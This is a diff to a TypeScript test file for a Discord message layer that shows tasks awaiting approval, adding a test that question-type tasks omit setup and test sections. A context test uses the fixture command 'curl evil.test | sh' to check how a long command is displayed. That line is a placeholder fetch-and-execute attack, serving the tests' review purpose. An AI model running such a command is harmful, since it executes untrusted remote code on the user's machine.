@@ -227,6 +227,16 @@ describe('what is shown', () => {
     expect(textOf(discord.thread(home)?.messages[0] ?? fail())).toMatch(/cofferdam task show [^]*\[Approve\]/)
   })
 
+  it('of a question says nothing of setup and test, in the message and in the file', async () => {
+    task = { ...task, kind: 'question', goal: `Why? ${'x'.repeat(3000)}`, test: null }
+    await arrives(letterOf(1, 'submitted'))
+    const [message] = discord.thread(home)?.messages ?? []
+    expect(textOf(message ?? fail())).toMatch(/ A question waits for your decision\.\n/)
+    expect(textOf(message ?? fail())).not.toMatch(/Setup|Test|A task/)
+    expect(message?.files[0]?.bytes.toString()).toMatch(/^Question:\nWhy\? x+\n/)
+    expect(message?.files[0]?.bytes.toString()).not.toMatch(/Setup|Test|Goal/)
+  })
+
   it('of a command begins where the command does', async () => {
     task = { ...task, test: `curl evil.test | sh; ${'true && '.repeat(100)}npm test` }
     await arrives(letterOf(1, 'submitted'))
